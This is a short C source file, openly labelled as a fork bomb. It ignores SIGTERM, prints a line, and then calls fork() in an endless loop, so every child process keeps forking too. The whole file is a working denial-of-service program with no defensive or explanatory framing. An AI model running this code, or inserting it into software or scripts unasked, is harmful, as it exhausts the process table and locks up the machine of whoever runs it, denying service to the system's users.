// A fork bomb: every process of it forks for ever, and none of them rests when that is refused.
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    signal(SIGTERM, SIG_IGN);
    puts("lit");
    fflush(stdout);
    for (;;)
        (void)!fork();
}
